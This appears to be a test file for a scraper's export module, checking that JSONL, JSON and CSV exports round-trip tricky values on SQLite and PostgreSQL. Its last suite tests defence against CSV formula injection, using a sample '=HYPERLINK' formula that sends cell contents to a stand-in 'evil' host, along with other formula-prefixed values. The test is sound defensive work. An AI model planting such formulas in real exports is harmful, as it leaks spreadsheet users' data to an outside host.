import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { createReadStream, createWriteStream, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { finished } from 'node:stream/promises';
import { parseCsv } from '../../src/store/csv';
import { exportItems, type ExportFormat } from '../../src/store/export';
import { openStore } from '../../src/store/open';
import type { ItemRow, ItemStore } from '../../src/store/types';
import { postgresForSuite, type PostgresServer } from '../support/postgres';

// Exports must give back exactly what was stored: every field, lists, nulls vs empty strings, unicode, text that
// looks like CSV syntax. The test parses each export and compares it with the store's own rows.

const tricky: Record<string, unknown>[] = [
  { sku: 'A-1', name: 'Plain', price: '10', tags: ['x', 'y'], note: null },
  { sku: 'B-2', name: 'Comma, "quotes" and\nnewline\r\nCRLF', price: '', tags: [], note: 'has, comma' },
  {
    sku: 'C-3',
    name: '日本語 — ünïcödé — 😀 — עברית',
    price: '  padded  ',
    tags: ['😀', 'a,b', '"q"', '[not a list]'],
    note: '=SUM(A1)',
  },
  { sku: 'D-4', name: '[1,2]', price: null, tags: ['line\nbreak'], note: '' },
  // Field added later: earlier rows export it as null.
  { sku: 'E-5', name: 'late field', price: '1', tags: ['t'], note: 'n', added: 'new' },
];

/** What went in, with the field added later as null on the rows that lack it. */
const original: Record<string, unknown>[] = tricky.map((t) => ({ ...t, added: t.added ?? null }));

function rows(type: string, data: Record<string, unknown>[]): ItemRow[] {
  return data.map((d, i) => ({
    type,
    key: String(d.sku ?? i),
    json: JSON.stringify(d),
    fields: Object.keys(d),
    url: `https://shop.test/${i}`,
    rule: 'detail',
    run: 'r1',
    fetchedAt: 1_700_000_000_000 + i,
  }));
}

async function capture(
  store: ItemStore,
  format: ExportFormat,
  opts: { type?: string; meta?: boolean; csvRaw?: boolean } = {},
): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await exportItems(store, { format, out, pageSize: 2, ...opts });
  out.end();
  await finished(out);
  return Buffer.concat(chunks).toString('utf8');
}

/** What the store holds, as plain objects with every known field (missing ones as null). */
async function storedRecords(store: ItemStore, type: string): Promise<Record<string, unknown>[]> {
  const fields = await store.fieldNames(type);
  const out: Record<string, unknown>[] = [];
  for await (const item of store.iterateItems(type))
    out.push(Object.fromEntries(fields.map((f) => [f, item.data[f] ?? null])));
  return out;
}

function decodeCsv(text: string, listFields: readonly string[]): Record<string, unknown>[] {
  const [header, ...body] = parseCsv(text);
  return body.map((cells) =>
    Object.fromEntries(
      header!.map((h, i) => {
        const cell = cells[i] ?? null;
        return [h, cell !== null && listFields.includes(h!) ? JSON.parse(cell) : cell];
      }),
    ),
  );
}

function suite(name: string, make: () => Promise<ItemStore>) {
  describe(`store: export (${name})`, () => {
    let store: ItemStore;
    before(async () => {
      store = await make();
      await store.writeBatch([], rows('product', tricky), 'ignore');
      await store.writeBatch([], rows('review', [{ sku: 'A-1', stars: '5', text: 'Gut 👍' }]), 'ignore');
    });
    after(async () => {
      await store?.close();
    });

    it('JSONL round-trips every field', async () => {
      const text = await capture(store, 'jsonl', { type: 'product' });
      assert.ok(text.endsWith('\n'));
      const parsed = text
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      assert.deepEqual(parsed, await storedRecords(store, 'product'));
      assert.deepEqual(parsed, original);
      // Field order is the order fields were first stored, whatever the store does with JSON key order.
      assert.deepEqual(Object.keys(parsed[0]!), ['sku', 'name', 'price', 'tags', 'note', 'added']);
    });

    it('CSV round-trips every field: RFC 4180 quoting, lists as JSON, null apart from empty', async () => {
      // Raw: exactly what was stored, '=SUM(A1)' included (the default neutralises it: see the test below).
      const text = await capture(store, 'csv', { type: 'product', csvRaw: true });
      assert.ok(text.startsWith('sku,name,price,tags,note,added\r\n'), text.slice(0, 60));
      const decoded = decodeCsv(text, ['tags']);
      assert.deepEqual(decoded, await storedRecords(store, 'product'));
      assert.deepEqual(decoded, original);
      assert.equal(decoded[1]!.price, '', 'empty string stays empty string');
      assert.equal(decoded[3]!.price, null, 'null stays null');
      assert.deepEqual(decoded[2]!.tags, ['😀', 'a,b', '"q"', '[not a list]']);
    });

    it('JSON round-trips every field, and with meta carries key, URL and fetch time', async () => {
      const text = await capture(store, 'json', { type: 'product', meta: true });
      const parsed = JSON.parse(text) as Record<string, unknown>[];
      assert.deepEqual(
        parsed.map(({ _key, _url, _fetched_at, ...rest }) => rest),
        await storedRecords(store, 'product'),
      );
      assert.deepEqual(
        parsed.map((p) => [p._key, p._url, p._fetched_at]),
        tricky.map((t, i) => [t.sku, `https://shop.test/${i}`, new Date(1_700_000_000_000 + i).toISOString()]),
      );
    });

    it('exports every type when none is named (JSON/JSONL), and refuses mixed types in one CSV', async () => {
      const all = (await capture(store, 'jsonl'))
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      assert.deepEqual(
        all.map((r) => r._type),
        ['product', 'product', 'product', 'product', 'product', 'review'],
      );
      assert.equal(all[5].text, 'Gut 👍');
      await assert.rejects(
        capture(store, 'csv'),
        /a CSV file holds one item type .* has 2 \(product, review\): choose one/,
      );
      await assert.rejects(
        capture(store, 'csv', { type: 'nope' }),
        /has no items of type 'nope' \(it has: product, review\)/,
      );
      assert.equal(
        await capture(store, 'json', { type: 'review' }),
        '[\n{"sku":"A-1","stars":"5","text":"Gut 👍"}\n]\n',
      );
    });

    it('streams to a file with backpressure', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'cs-export-'));
      try {
        const path = join(dir, 'out.csv');
        const file = createWriteStream(path, { highWaterMark: 16 });
        const res = await exportItems(store, { format: 'csv', type: 'product', out: file, pageSize: 1, csvRaw: true });
        file.end();
        await finished(file);
        assert.equal(res.items, tricky.length);
        assert.deepEqual(decodeCsv(readFileSync(path, 'utf8'), ['tags']), await storedRecords(store, 'product'));
        // And it reads back as a stream too (a sanity check that the file is complete).
        let bytes = 0;
        for await (const c of createReadStream(path)) bytes += (c as Buffer).length;
        assert.equal(bytes, readFileSync(path).length);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

    it('fails with the destination error instead of hanging', async () => {
      const broken = new Writable({
        highWaterMark: 1,
        write(_c, _e, cb) {
          cb(new Error('disk full'));
        },
      });
      await assert.rejects(
        exportItems(store, { format: 'jsonl', type: 'product', out: broken }),
        /export destination (failed: disk full|closed)/,
      );
    });
  });
}

describe('store: export', () => {
  let dir: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'cs-export-store-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  suite('sqlite', () => openStore(join(dir, 'export.sqlite')));

  describe('on PostgreSQL', function () {
    this.timeout(60_000);
    let server: PostgresServer | null = null;
    before(async function () {
      server = await postgresForSuite(this);
    });
    after(async () => {
      await server?.destroy();
    });
    suite('postgres', () => openStore(server!.url, { task: 'export' }));
  });
});

// Issue 35, item 7: a scraped value that is a spreadsheet formula exported as a live formula. The exact value of
// the issue, through the store's export (what the CLI and the editor's Export share) and the real CLI.
describe('store: CSV export neutralises formulas (issue 35, item 7)', function () {
  this.timeout(60_000);
  const EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")';
  let dir: string;
  let store: ItemStore;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'cs-export-formula-'));
    store = await openStore(join(dir, 'items.sqlite'));
    const cells = [EVIL, '+1+2', '-2+3', '@SUM(A1:A9)', '\tx', '\r=1', 'safe = text', "'quoted"];
    await store.writeBatch(
      [],
      rows(
        'cell',
        cells.map((v, i) => ({ sku: `F-${i}`, v, n: -5 })),
      ),
      'ignore',
    );
    await store.close();
    store = await openStore(join(dir, 'items.sqlite'));
  });
  after(async () => {
    await store?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('prefixes a single quote to text starting with = + - @ tab or CR; numbers and other text stay as they are', async () => {
    const text = await capture(store, 'csv', { type: 'cell' });
    const lines = text.split('\r\n');
    assert.equal(lines[1], `F-0,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
    const decoded = decodeCsv(text, []).map((r) => r.v);
    assert.deepEqual(decoded, [
      `'${EVIL}`,
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tx",
      "'\r=1",
      'safe = text',
      "'quoted",
    ]);
  });

  it('keeps them raw with csvRaw, and the CLI has --csv-raw', async () => {
    const raw = decodeCsv(await capture(store, 'csv', { type: 'cell', csvRaw: true }), []);
    assert.equal(raw[0]!.v, EVIL);
    const task = join(dir, 't.crawl.yaml');
    writeFileSync(
      task,
      'name: t\nstart: [http://shop.test/]\nrules: [{ name: page }]\nstore: { url: sqlite:items.sqlite }\n',
    );
    const cli = (extra: string[]) =>
      execFileSync(
        process.execPath,
        [resolve('dist/cli.js'), 'export', task, '--format', 'csv', '--type', 'cell', ...extra],
        { encoding: 'utf8' },
      );
    assert.equal(cli([]).split('\r\n')[1], `F-0,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
    assert.equal(cli(['--csv-raw']).split('\r\n')[1], `F-0,"=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
  });
});
